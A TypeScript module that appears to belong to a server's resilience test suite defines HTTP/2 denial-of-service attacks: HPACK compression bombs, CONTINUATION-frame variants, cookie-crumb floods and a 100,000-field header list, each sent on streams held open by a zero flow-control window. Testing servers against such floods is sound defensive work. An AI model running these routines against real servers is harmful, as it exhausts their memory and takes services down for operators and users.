import type { Attacker } from '../lib/attacker.ts'
import { INITIAL_WINDOW_SIZE, repeated } from '../lib/frames.ts'
import {
  block,
  leastField,
  references,
  request,
  stored,
  storedCrumb,
  storedTiny,
} from './header-blocks.ts'

type Run = (attacker: Attacker) => Promise<void>

/** Streams that wait for a window which stays shut: what their requests cost is not given back. */
const streamCount = 100

/** Requests with these fields, on as many streams as the server lets a client have. */
function held(...fields: Buffer[]): Run {
  const bytes = Buffer.concat([request, ...fields])
  return (attacker) =>
    attacker.http2(
      async (connection) => {
        for (let i = 0; i < streamCount && connection.isOpen; i++) {
          await connection.send(block(connection.nextStream(), bytes))
        }
        await connection.untilEnded()
      },
      { settings: [[INITIAL_WINDOW_SIZE, 0]], count: 5 },
    )
}

/** References to an entry of nearly 4 KiB: megabytes for each kilobyte that is sent. */
export const hpackBomb: Run = held(stored, references(12_000))

/** The same in CONTINUATION frames. */
export const longHpackBomb: Run = held(stored, references(120_000))

/** References to a field of one byte: what a server keeps for each field is what counts. */
export const http2Bomb: Run = held(storedTiny, references(4000))

/** As many of them as our limit of fields lets through. */
export const http2BombWithinLimits: Run = held(storedTiny, references(120))

/** Crumbs of a cookie, which some servers do not count as fields (RFC 9113 §8.2.3). */
export const cookieCrumbs: Run = held(storedCrumb, references(10_000))

/** 100,000 fields in one block, without the table. */
export const longHeaderList: Run = held(repeated(leastField, 100_000))
